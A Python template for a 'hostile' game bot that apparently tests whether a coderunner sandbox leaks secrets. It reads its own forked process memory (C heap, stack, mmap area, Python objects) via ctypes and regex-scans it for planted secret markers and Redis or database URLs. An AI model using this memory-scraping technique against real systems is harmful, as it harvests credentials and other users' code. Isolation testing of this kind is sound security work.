"""Hostile Tanks bot: read the other bot and the simulator out of its own memory.

A coderunner is a copy of the process it was forked from. If that process
(the forkserver, itself forked from cf-fight or the simulator) ever held the
other bots' code or its own environment, the copy still holds them: free()
and clearenv() do not wipe memory. The bot reads its own address space
through ctypes (no /proc needed; mincore() tells mapped pages from holes):
the C heap below the program break, the main stack above
__libc_stack_end (where the original argv and environment strings live) and
the Python heap, and prints the secrets it finds: the other bot's
CFSECRET-plain-..., the simulator's CFSECRET-env-..., CF_REDIS_URL=...
"""
# @ESCAPE_PRELUDE@


import ctypes
import gc
import re

PATTERNS = [re.compile(('CFSECRET' + '-plain-' + '[0-9a-f]{16}').encode()),
            re.compile(('CFSECRET' + '-env-' + '[0-9a-f]{16}').encode()),
            re.compile(b'CF_(?:REDIS|DATABASE)_URL=[a-z]+://[ -~]{1,200}')]
PAGE = 4096
FOUND = set()


def look(where, data):
    for pat in PATTERNS:
        for m in pat.finditer(data):
            if m.group(0) in FOUND:
                continue
            FOUND.add(m.group(0))
            sys.stderr.write('LEAK %s %s\n' % (where, m.group(0).decode('ascii', 'replace')))
            sys.stderr.flush()
            evidence('found %s in its own %s' % (m.group(0)[:14].decode(), where))


def mapped(lib, addr, vec):
    return lib.mincore(ctypes.c_void_p(addr), PAGE, vec) == 0


def scan_range(lib, where, start, step, limit):
    """Reads page by page from start, in direction step, while pages are mapped."""
    vec = ctypes.create_string_buffer(1)
    addr = start & ~(PAGE - 1)
    pages = 0
    while pages < limit and mapped(lib, addr, vec):
        try:
            look(where, ctypes.string_at(addr, PAGE))
        except Exception:
            break
        addr += step * PAGE
        pages += 1
    note('%s: %d pages read' % (where, pages))


def readable(lib, addr, probe):
    """A mapped page may still be PROT_NONE: let write() try it (EFAULT, no crash)."""
    r, w = probe
    if lib.write(w, ctypes.c_void_p(addr), 1) != 1:
        return False
    os.read(r, 1)
    return True


def scan_around(lib, where, anchor, span):
    """Reads every readable page within span of anchor, probing 64 KB blocks
    first (an mmap'd buffer of the parent is at least that big)."""
    vec = ctypes.create_string_buffer(16)
    probe = os.pipe()
    block = 16 * PAGE
    lo = max((anchor - span) & ~(block - 1), block)
    pages = 0
    deadline = time.process_time() + 0.5
    for base in range(lo, anchor + span, block):
        if time.process_time() > deadline:
            break
        if not mapped(lib, base, vec):
            continue
        for addr in range(base, base + block, PAGE):
            if mapped(lib, addr, vec) and readable(lib, addr, probe):
                look(where, ctypes.string_at(addr, PAGE))
                pages += 1
    os.close(probe[0])
    os.close(probe[1])
    note('%s: %d pages read' % (where, pages))


def attack():
    lib = libc()
    lib.sbrk.restype = ctypes.c_void_p
    lib.mincore.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_char_p]
    brk = lib.sbrk(0)
    # The C heap grows up from its start to the break: read it downwards.
    scan_range(lib, 'C heap', brk - PAGE, -1, 1 << 16)
    try:
        top = ctypes.c_void_p.in_dll(lib, '__libc_stack_end').value
    except ValueError:
        top = None
    if top is None:
        try:
            top = ctypes.c_void_p.in_dll(lib, 'program_invocation_name').value
        except ValueError:
            top = None
    if top:
        scan_range(lib, 'stack', top, 1, 1 << 10)
    lib.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    # The mmap area: large buffers of the parent processes sit near the
    # shared libraries (top-down allocation).
    scan_around(lib, 'mmap area', ctypes.cast(lib.malloc, ctypes.c_void_p).value, 256 << 20)
    for obj in gc.get_objects():
        if isinstance(obj, (str, bytes)) and len(obj) > 20:
            look('Python heap', obj.encode('utf-8', 'replace') if isinstance(obj, str) else obj)


# @ESCAPE_ATTACK_MAIN@
